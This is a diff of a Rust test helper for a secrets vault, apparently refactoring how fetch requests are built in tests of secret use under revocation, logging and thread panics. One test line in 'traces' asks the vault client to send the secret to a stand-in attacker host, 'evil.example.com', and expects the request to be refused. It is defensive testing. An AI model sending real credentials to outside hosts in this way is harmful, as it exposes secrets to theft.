@@ -1,6 +1,6 @@
 //! Processes that use a secret: many times, while another revokes it, and while everything is logged and a thread panics.
 
-use std::fmt;
+use std::fmt::{self, Write as _};
 
 use aios_core::engine::vault::{Answer, Fetch, SecretUse};
 use aios_core::facade::guard;
@@ -18,7 +18,7 @@ pub(crate) fn many(job: &Job, name: &str, count: usize) -> Done<()> {
     let client = client(job, &aios)?;
     job.await_go();
     for _ in 0..count {
-        match client.fetch(asked(job)?) {
+        match client.fetch(asked(job)) {
             Ok(_) => log.line("used")?,
             Err(refusal) if refusal.code().status() == 429 => log.line(&limited(&refusal))?,
             Err(refusal) => return log.refused(&refusal),
@@ -34,12 +34,12 @@ pub(crate) fn holds(job: &Job, name: &str) -> Done<()> {
     let (permit, client) = (aios.authorize(&job.request())?, client(job, &aios)?);
     let credential = permit.credential("prod/key")?;
     // Held: their answers are still under way.
-    let held = [credential.fetch(asked(job)?)?, client.fetch(asked(job)?)?];
+    let held = [credential.fetch(asked(job))?, client.fetch(asked(job))?];
     log.line("ready")?;
     job.wait_for("late");
-    log.line(&format!("permit {}", word(credential.fetch(asked(job)?))))?;
-    log.line(&format!("client {}", word(client.fetch(asked(job)?))))?;
-    let anew = permit.credential("prod/key").and_then(|anew| anew.fetch(asked(job)?));
+    log.line(&format!("permit {}", word(credential.fetch(asked(job)))))?;
+    log.line(&format!("client {}", word(client.fetch(asked(job)))))?;
+    let anew = permit.credential("prod/key").and_then(|anew| anew.fetch(asked(job)));
     log.line(&format!("anew {}", word(anew)))?;
     drop(held);
     job.wait_for("never");
@@ -54,10 +54,10 @@ pub(crate) fn traces(job: &Job, name: &str) -> Done<()> {
     let (mut log, aios) = (job.log(name)?, job.open("sqlite:aios.db")?);
     let (permit, client) = (aios.authorize(&job.request())?, client(job, &aios)?);
     let credential = permit.credential("prod/key")?;
-    let answer = credential.fetch(asked(job)?)?;
+    let answer = credential.fetch(asked(job))?;
     while answer.next()?.is_some() {}
-    let refused = client.fetch(Fetch { outgoing: outgoing("https://evil.example.com/"), ..asked(job)? });
-    let (held, again) = (credential.fetch(asked(job)?)?, client.clone());
+    let refused = client.fetch(Fetch { outgoing: outgoing("https://evil.example.com/"), ..asked(job) });
+    let (held, again) = (credential.fetch(asked(job))?, client.clone());
     let thread = std::thread::spawn(move || panics(&permit, &again, &held));
     log.line(&format!("thread {}", thread.join().is_err()))?;
     let caught = guard::<Answer>(|| panics_over(&credential, &refused));
@@ -82,9 +82,9 @@ fn client(job: &Job, aios: &Aios) -> Done<SecretUse> {
     Ok(aios.vault().client(job.request().who, &"secret://acme/prod/key".parse()?)?)
 }
 
-fn asked(job: &Job) -> Result<Fetch, Refusal> {
+fn asked(job: &Job) -> Fetch {
     let url = job.url.as_deref().unwrap_or_default();
-    Ok(Fetch { outgoing: outgoing(url), body: b"{}".to_vec(), patience: None })
+    Fetch { outgoing: outgoing(url), body: b"{}".to_vec(), patience: None }
 }
 
 fn outgoing(url: &str) -> Outgoing {
@@ -150,12 +150,13 @@ struct Fields(String);
 
 impl Visit for Fields {
     fn record_debug(&mut self, field: &Field, value: &dyn fmt::Debug) {
-        self.0 += &format!("{}={value:?} ", field.name());
+        // Text takes whatever is written to it.
+        let _ = write!(self.0, "{}={value:?} ", field.name());
     }
 }
 
 fn written(line: &str) {
-    use std::io::Write;
+    use std::io::Write as _;
     // Whoever collects it may be gone.
     let _ = writeln!(std::io::stderr(), "{line}");
 }
